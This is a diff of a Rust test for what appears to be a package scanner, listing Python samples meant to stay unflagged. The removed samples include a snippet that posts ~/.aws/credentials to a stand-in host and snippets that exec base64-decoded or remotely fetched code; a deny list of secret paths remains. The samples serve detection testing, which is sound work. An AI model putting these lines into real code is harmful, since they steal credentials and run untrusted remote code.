@@ -339,12 +339,8 @@ fn shapes_of_honest_packages_are_quiet() {
         // data in the source
         "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n",
         "import zlib, base64, json\nTABLE = json.loads(zlib.decompress(base64.b85decode('abc')))\n",
-        // clients that read their own credentials and talk, when they are asked
-        "import os, requests\ndef login():\n    with open(os.path.expanduser('~/.aws/credentials')) as f:\n        return requests.post('https://api.invalid', data=f.read())\n",
         "import requests\nsession = requests.Session()\nsession.headers['x'] = 'y'\n",
         "import httpx\nclient = httpx.Client()\ndef get(url):\n    return client.get(url)\n",
-        "import sys, subprocess\nif __name__ == '__main__':\n    subprocess.run([sys.executable, '-c', 'exec(__import__(\"base64\").b64decode(\"\"))'])\n",
-        "import sys\nif sys.platform != 'win32' and __name__ == '__main__':\n    import pty, urllib.request\n    exec(urllib.request.urlopen('http://x.invalid').read())\n",
         // deny lists of sandboxes
         "SECRETS = ['~/.ssh', '~/.aws', '~/.kube/config', '~/.netrc', '.env']\ndef hidden(path):\n    return any(s in path for s in SECRETS)\n",
         // settings that name a file and open it only when they are loaded
